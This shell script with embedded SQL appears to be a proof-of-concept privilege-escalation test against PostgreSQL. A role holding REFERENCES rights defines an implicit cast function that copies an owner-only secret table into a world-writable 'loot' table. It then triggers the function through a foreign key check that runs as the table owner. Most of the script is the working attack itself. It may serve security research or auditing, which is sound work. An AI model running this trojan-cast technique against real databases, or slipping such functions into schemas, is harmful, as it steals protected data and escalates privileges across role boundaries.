#!/bin/sh
# A role granted REFERENCES on simhash.documents makes a foreign key from a column of its own type,
# with an implicit cast of its own to text. PostgreSQL runs the foreign key's check on the referenced
# table as that table's owner, casting the new value to text there: does the cast run as the owner?
set -e
DB=${DB:-h13r_db}
P="psql -h 127.0.0.1 -d $DB -v ON_ERROR_STOP=1 -q"
$P -U h13r_owner -c "GRANT USAGE ON SCHEMA simhash TO h13r_writer; GRANT SELECT, INSERT, UPDATE, DELETE, TRUNCATE, REFERENCES ON ALL TABLES IN SCHEMA simhash TO h13r_writer; CREATE SCHEMA IF NOT EXISTS private; CREATE TABLE IF NOT EXISTS private.owner_secret (s text); INSERT INTO private.owner_secret VALUES ('only the owner may read this')"
$P -U h13r_writer <<'SQL'
DROP SCHEMA IF EXISTS wapp CASCADE;
CREATE SCHEMA wapp;
CREATE TABLE wapp.loot (who text, secret text);
GRANT INSERT ON wapp.loot TO PUBLIC;
GRANT USAGE ON SCHEMA wapp TO PUBLIC;
CREATE TYPE wapp.k AS ENUM ('g0v0', 'g1v0');
CREATE FUNCTION wapp.k_text(wapp.k) RETURNS text LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  BEGIN
    INSERT INTO wapp.loot SELECT current_user, s FROM private.owner_secret;
  EXCEPTION WHEN others THEN
    INSERT INTO wapp.loot VALUES (current_user, SQLERRM);
  END;
  RETURN pg_catalog.format('%s', $1);
END $$;
CREATE CAST (wapp.k AS text) WITH FUNCTION wapp.k_text(wapp.k) AS IMPLICIT;
CREATE TABLE wapp.r (k wapp.k REFERENCES simhash.documents (key));
INSERT INTO wapp.r VALUES ('g0v0');
SELECT * FROM wapp.loot;
SQL
